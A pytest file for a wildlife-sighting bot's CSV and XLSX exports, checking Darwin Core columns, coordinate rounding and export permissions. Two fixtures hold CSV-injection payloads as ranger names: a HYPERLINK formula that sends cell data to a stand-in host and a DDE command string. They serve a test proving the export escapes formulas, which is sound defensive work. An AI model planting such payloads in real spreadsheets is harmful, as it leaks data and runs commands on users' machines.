"""Exports as tables: the Darwin Core CSV (both separators) and XLSX, read back with pandas and openpyxl
and compared with the database; the CLI and /export. GIS formats: tests/test_exports_gis.py; Camtrap DP:
tests/test_camtrapdp.py."""

from __future__ import annotations

import argparse
import asyncio
import io
import json
import os
import zipfile
from collections.abc import AsyncIterator
from datetime import timedelta
from pathlib import Path

import openpyxl
import pandas as pd
import pytest

from bot.cli import export as export_cli
from bot.geo import Point, round_point
from bot.reports.exports import ExportOptions, export
from bot.reports.exports.occurrence import DWC_TERMS, EXTRA_COLUMNS
from storage.db import Database
from tests.conftest import ADMIN, GROUP, Team
from tests.support.exports import GRID, MONTH, database_rows
from tests.support.sightings_world import AIGERIM, BASE, SERIK, seed

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Serik")'


@pytest.fixture
async def db(tmp_path: Path) -> AsyncIterator[Database]:
    async with Database(tmp_path / "e.sqlite3") as database:
        await seed(database)
        yield database


def read_csv(data: bytes, sep: str = ",", decimal: str = ".") -> pd.DataFrame:
    # Text stays text (a ranger's name, a SHA-256); numbers are parsed by pandas as a user's R/Python would.
    text = data.decode("utf-8-sig")
    return pd.read_csv(io.StringIO(text), sep=sep, decimal=decimal, keep_default_na=False, na_values=[""],
                       dtype={"recordedBy": str, "photo_sha256": str, "eventID": str})  # fmt: skip


async def test_csv_is_a_darwin_core_occurrence_table_matching_the_database(db: Database) -> None:
    frame = read_csv(await export(db, "csv", *MONTH, exact=False, grid_km=GRID))
    header = list(frame.columns)
    assert header[: len(DWC_TERMS)] == list(DWC_TERMS)  # Darwin Core terms first, the bot's fields after
    assert header[len(DWC_TERMS) : len(DWC_TERMS) + len(EXTRA_COLUMNS)] == list(EXTRA_COLUMNS)
    stored = await database_rows(db)
    rows = {int(r["sightingID"]): r for r in frame.to_dict("records")}
    assert set(rows) == set(stored)
    for sid, r in rows.items():
        s = stored[sid]
        assert r["occurrenceID"] == f"obs-{sid}" and r["eventID"] == str(s["event_id"] or sid)
        assert r["eventDate"] == s["taken_at"].replace("+00:00", "Z")
        assert r["recordedBy"] == s["ranger"] and r["photo_sha256"] == s["photo_sha256"]
        assert r["score"] == pytest.approx(s["score"]) and r["is_leopard"] == s["is_leopard"]
        if s["lat"] is None:
            assert pd.isna(r["decimalLatitude"]) and pd.isna(r["coordinateUncertaintyInMeters"])
            continue
        snapped = round_point(Point(s["lat"], s["lon"]), GRID)
        assert (r["decimalLatitude"], r["decimalLongitude"]) == (round(snapped.lat, 4), round(snapped.lon, 4))
        # The rounding is said where Darwin Core has the words for it.
        assert r["coordinateUncertaintyInMeters"] == 7072 and r["coordinatePrecision"] == 0.09
        assert r["geodeticDatum"] == "EPSG:4326" and "rounded to a ~10 km grid" in r["dataGeneralizations"]
    one, four, five, six = rows[1], rows[4], rows[5], rows[6]
    assert (one["scientificName"], one["taxonID"]) == (
        "Panthera pardus",
        "https://www.gbif.org/species/5219436",
    )
    assert (one["identifiedBy"], one["dateIdentified"], one["occurrenceStatus"]) == (
        "Aigerim K.", "2025-03-04T14:24:00Z", "present",
    )  # fmt: skip
    assert one["basisOfRecord"] == "MachineObservation" and four["basisOfRecord"] == "HumanObservation"
    assert one["locationID"].startswith("loc-") and pd.isna(one["locality"])  # alias, no station name
    assert (four["area"], four["location_source"], four["recordedBy"]) == ("UST", "pin", "Aigerim <b>")
    # "Not a leopard" and the detector's "no leopard": the leopard's absence, said as such (docs/EXPORTS.md).
    assert (five["scientificName"], five["occurrenceStatus"]) == ("Panthera pardus", "absent")
    assert five["status"] == "rejected"
    assert (six["scientificName"], six["occurrenceStatus"]) == ("Panthera pardus", "absent")
    assert six["identificationRemarks"].startswith("no leopard: classified by a machine")
    assert one["license"] == "CC-BY-4.0"
    exact = read_csv(await export(db, "csv", *MONTH, exact=True, grid_km=GRID))
    four = exact[exact["sightingID"] == 4].iloc[0]
    assert (four["decimalLatitude"], four["decimalLongitude"]) == (43.25, 51.85)
    assert pd.isna(four["coordinateUncertaintyInMeters"]) and pd.isna(four["dataGeneralizations"])
    assert exact[exact["sightingID"] == 1].iloc[0]["locality"] == "Spring UST-01"


async def test_period_bounds_are_half_open(db: Database) -> None:
    frame = read_csv(await export(db, "csv", BASE, BASE + timedelta(days=7), exact=True, grid_km=GRID))
    assert set(frame["sightingID"]) == {1, 2, 3, 4, 5, 6, 7}  # 8 was taken before the week, 9-11 too


async def test_csv_cells_never_run_as_formulas(db: Database) -> None:
    names = {SERIK: FORMULA, AIGERIM: "@SUM(1+1)*cmd|' /C calc'!A0"}
    for uid, name in names.items():
        await db.execute("UPDATE rangers SET name = ? WHERE user_id = ?", (name, uid))
    for sep in (",", ";"):
        data = await export(
            db, "csv", *MONTH, exact=False, grid_km=GRID, options=ExportOptions(delimiter=sep)
        )
        frame = read_csv(data, sep=sep, decimal="," if sep == ";" else ".")
        assert set(frame["recordedBy"]) == {"'" + FORMULA, "'@SUM(1+1)*cmd|' /C calc'!A0"}
        cells = [c for line in data.decode("utf-8-sig").splitlines()[1:] for c in line.split(sep)]
        assert not [c for c in cells if c[:1] in ("=", "+", "@")]
    # Negative numbers are numbers, not text: only text is escaped.
    await db.execute("UPDATE sightings SET lat = -43.25, lon = -51.85 WHERE id = 4")
    frame = read_csv(await export(db, "csv", *MONTH, exact=True, grid_km=GRID))
    assert frame[frame["sightingID"] == 4].iloc[0]["decimalLatitude"] == -43.25


async def test_semicolon_csv_is_what_excel_reads_under_russian_settings(db: Database) -> None:
    comma = read_csv(await export(db, "csv", *MONTH, exact=True, grid_km=GRID))
    data = await export(db, "csv", *MONTH, exact=True, grid_km=GRID, options=ExportOptions(delimiter=";"))
    header = data.decode("utf-8-sig").splitlines()[0]
    assert header.startswith("occurrenceID;basisOfRecord;eventID;") and "," not in header
    assert "43,250000;51,850000" in data.decode("utf-8-sig")  # the decimal mark of those settings
    semi = read_csv(data, sep=";", decimal=",")
    pd.testing.assert_frame_equal(semi, comma)


async def test_xlsx_has_the_same_table_with_typed_cells(db: Database) -> None:
    await db.execute("UPDATE rangers SET name = ? WHERE user_id = ?", (FORMULA, SERIK))
    data = await export(db, "xlsx", *MONTH, exact=False, grid_km=GRID)
    book = openpyxl.load_workbook(io.BytesIO(data))
    assert book.sheetnames == ["occurrences", "about"]
    sheet = book["occurrences"]
    header = [c.value for c in sheet[1]]
    rows = [dict(zip(header, (c.value for c in row), strict=True)) for row in sheet.iter_rows(min_row=2)]
    csv_frame = read_csv(await export(db, "csv", *MONTH, exact=False, grid_km=GRID))
    assert header == list(csv_frame.columns) and len(rows) == len(csv_frame) == 11
    by_id = {r["sightingID"]: r for r in rows}
    stored = await database_rows(db)
    snapped = round_point(Point(43.25, 51.85), GRID)
    assert (by_id[4]["decimalLatitude"], by_id[4]["decimalLongitude"]) == pytest.approx(
        (snapped.lat, snapped.lon)
    )
    assert isinstance(by_id[4]["score"], float) and by_id[4]["coordinateUncertaintyInMeters"] == 7072
    assert by_id[1]["recordedBy"] == FORMULA  # the ranger's name as written...
    cell = next(c for c in sheet[2 + [r["sightingID"] for r in rows].index(1)] if c.value == FORMULA)
    assert cell.data_type == "s"  # ...stored as text, never as a formula
    assert all(by_id[sid]["photo_sha256"] == s["photo_sha256"] for sid, s in stored.items())
    about = {r[0].value: r[1].value for r in book["about"].iter_rows() if len(r) > 1}
    assert about["data licence"] == "CC-BY-4.0" and "10 km grid" in about["places"]


async def test_timestamp_issues_are_said_where_the_database_has_them(db: Database) -> None:
    # Migration 0008's columns: an SD-card file time and a camera whose clock reset.
    await db.execute("UPDATE sightings SET time_source = 'exif_original'")
    await db.execute("UPDATE sightings SET time_source = 'import_file_time' WHERE id = 6")
    await db.execute("UPDATE sightings SET clock_issue = 'reset' WHERE id = 3")
    frame = read_csv(await export(db, "csv", *MONTH, exact=True, grid_km=GRID)).set_index("sightingID")
    assert frame.loc[6, "eventRemarks"] == "time from import_file_time, not the camera clock"
    assert frame.loc[3, "eventRemarks"] == "clock issue: reset"
    assert pd.isna(frame.loc[1, "eventRemarks"]) and frame.loc[6, "time_source"] == "import_file_time"


async def test_cli_writes_every_format(db: Database, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    for key in [k for k in os.environ if k.startswith("LW_")]:
        monkeypatch.delenv(key)
    monkeypatch.setenv("LW_DATABASE", str(db.path))
    parser = argparse.ArgumentParser()
    parser.add_argument("--env-file", default="")
    sub = parser.add_subparsers(dest="command")
    export_cli.add_parser(sub)
    days = ["--since", "2025-03-03", "--until", "2025-03-09"]
    out = tmp_path / "x.geojson"
    args = parser.parse_args(["export", "--format", "geojson", *days, "--out", str(out)])
    assert await asyncio.to_thread(export_cli.run, args) == 0  # it runs its own event loop
    ids = {f["id"] for f in json.loads(out.read_bytes())["features"]}
    assert ids == {1, 2, 3, 4, 5, 6, 7}  # 3-9 March in Asia/Aqtau: 2 March 19:00 to 9 March 19:00 UTC
    xlsx = tmp_path / "x.xlsx"
    args = parser.parse_args(["export", "--format", "xlsx", *days, "--out", str(xlsx)])
    assert await asyncio.to_thread(export_cli.run, args) == 0
    assert openpyxl.load_workbook(xlsx)["occurrences"].max_row == 8  # header + 7 photos
    semi = tmp_path / "x.csv"
    args = parser.parse_args(["export", "--format", "csv", "--delimiter", ";", *days, "--out", str(semi)])
    assert await asyncio.to_thread(export_cli.run, args) == 0
    assert len(read_csv(semi.read_bytes(), sep=";", decimal=",")) == 7


# --- /export through the bot ----------------------------------------------------------------------------


async def test_export_command_sends_a_document(bot_team: tuple[object, Team]) -> None:
    _, team = bot_team
    await seed(team.services.db)
    reply = await team.say(team.admin, "/export geojson since 2025-03-01 until 2025-03-09", team.group)
    doc = reply["document"]
    assert doc["file_name"] == "leopard-watch_2025-03-01_2025-03-09.geojson"
    assert "rounded to ~10 km" in reply["caption"]  # the group is not trusted
    features = json.loads(team.emu.file_bytes(doc["file_id"]))["features"]
    four = next(f for f in features if f["id"] == 4)
    assert four["geometry"]["coordinates"] != [51.85, 43.25]
    # An admin in private gets exact coordinates.
    reply = await team.say(team.admin, "/export camtrapdp 2025-03-01 2025-03-09")
    assert reply["document"]["file_name"] == "leopard-watch_2025-03-01_2025-03-09.zip"
    assert "exact" in reply["caption"]
    with zipfile.ZipFile(io.BytesIO(team.emu.file_bytes(reply["document"]["file_id"]))) as zf:
        assert "opportunistic-4,,,43.250000,51.850000" in zf.read("deployments.csv").decode()
    # Excel users: a workbook, and CSV with ";" for Russian and Kazakh settings.
    reply = await team.say(team.admin, "/export xlsx 2025-03-01 2025-03-09", team.group)
    assert reply["document"]["file_name"].endswith(".xlsx")
    book = openpyxl.load_workbook(io.BytesIO(team.emu.file_bytes(reply["document"]["file_id"])))
    assert book["occurrences"].max_row == 8
    reply = await team.say(team.admin, "/export csv; 2025-03-01 2025-03-09", team.group)
    assert reply["document"]["file_name"].endswith(".csv") and "csv" in reply["caption"]
    semi = read_csv(team.emu.file_bytes(reply["document"]["file_id"]), sep=";", decimal=",")
    assert len(semi) == 7 and semi["locationID"].dropna().str.startswith("loc-").all()
    # A trusted group gets exact coordinates too.
    await team.services.groups.update(GROUP, trusted=1)
    reply = await team.say(team.admin, "/export", team.group)
    assert reply["document"]["file_name"].endswith(".csv") and "exact" in reply["caption"]


async def test_export_is_refused_to_rangers_and_outsiders(bot_team: tuple[object, Team]) -> None:
    _, team = bot_team
    assert (await team.say(team.ranger, "/export csv"))["text"] == "Only coordinators can do this."
    stranger = team.emu.user(123_456, "Stranger")
    assert "only for the rangers and coordinators" in (await team.say(stranger, "/export"))["text"]
    assert (await team.say(team.ranger, "/export", team.group))["text"] == "Only coordinators can do this."
    assert "Usage: /export" in (await team.say(team.admin, "/export csv 2025-13-01"))["text"]
    assert not [m for m in team.emu.sent(ADMIN) if m.get("document")]
    # In a group the bot was not registered in it says nothing at all, to anyone.
    stray = team.emu.group(-100_999, "Someone else's chat")
    for who, text in ((team.admin, "/export"), (team.ranger, "/week"), (stranger, "/month")):
        await team.emu.send_text(who, text, stray)
    await asyncio.sleep(0.5)
    assert team.emu.sent(stray["id"]) == []
